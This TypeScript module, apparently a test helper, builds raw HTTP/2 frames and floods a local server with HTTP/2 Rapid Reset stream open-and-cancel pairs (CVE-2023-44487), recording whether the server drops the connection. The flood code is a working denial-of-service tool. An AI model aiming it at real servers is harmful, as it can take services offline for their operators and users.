import net from "node:net";

/** Types of frames (RFC 9113, section 6). */
export const FRAME = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
} as const;

/** Flags of HEADERS: that the request has no body, and that no CONTINUATION follows. */
const END_STREAM = 1;
export const END_HEADERS = 4;

/** A frame as it stands on the wire. */
export function toHttp2Frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Compressed headers of `GET http://x/` (RFC 7541, appendix A: 0x80 and the index of what is known whole, 0x41 for :authority). */
export const GET_HEADERS = Buffer.from([0x82, 0x84, 0x86, 0x41, 1, 0x78]);

/** A stream that is opened and given up at once (CVE-2023-44487). `number` counts from 0. */
export function toRapidReset(number: number): Buffer {
  const stream = 2 * number + 1;
  const cancel = Buffer.from([0, 0, 0, 8]);
  return Buffer.concat([
    toHttp2Frame(FRAME.headers, END_STREAM | END_HEADERS, stream, GET_HEADERS),
    toHttp2Frame(FRAME.reset, 0, stream, cancel),
  ]);
}

const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), toHttp2Frame(FRAME.settings, 0, 0)]);
/** Frames that are written at a time. */
const BATCH = 200;

/** How a flood ended: whether the server closed the connection before all frames were taken, and after how many. */
export interface FloodEnd {
  readonly isEnded: boolean;
  readonly sent: number;
}

/**
 * Sends frames over a connection of its own as fast as the server takes them, `count` at most, whatever it answers. Resolves when it has closed the
 * connection, or has taken all of them and answers a ping that comes after.
 */
export function floodHttp2(port: number, count: number, make: (number: number) => Buffer): Promise<FloodEnd> {
  const { promise, resolve } = Promise.withResolvers<FloodEnd>();
  const socket = net.connect(port, "127.0.0.1");
  const mark = Buffer.from("are here");
  let sent = 0;
  let tail = Buffer.alloc(0);
  const end = (isEnded: boolean) => {
    resolve({ isEnded, sent });
    socket.destroy();
  };
  socket.on("error", () => undefined);
  socket.once("close", () => end(true));
  socket.on("data", (chunk: Buffer) => {
    tail = Buffer.concat([tail, chunk]).subarray(-256);
    if (tail.includes(mark)) end(false);
  });
  const go = () => {
    while (sent < count && socket.writable) {
      const frames = Array.from({ length: Math.min(BATCH, count - sent) }, (_, at) => make(sent + at));
      sent += frames.length;
      if (!socket.write(Buffer.concat(frames))) {
        socket.once("drain", go);
        return;
      }
    }
    if (socket.writable) socket.write(toHttp2Frame(FRAME.ping, 0, 0, mark));
  };
  socket.once("connect", () => {
    socket.write(PREFACE);
    go();
  });
  return promise;
}
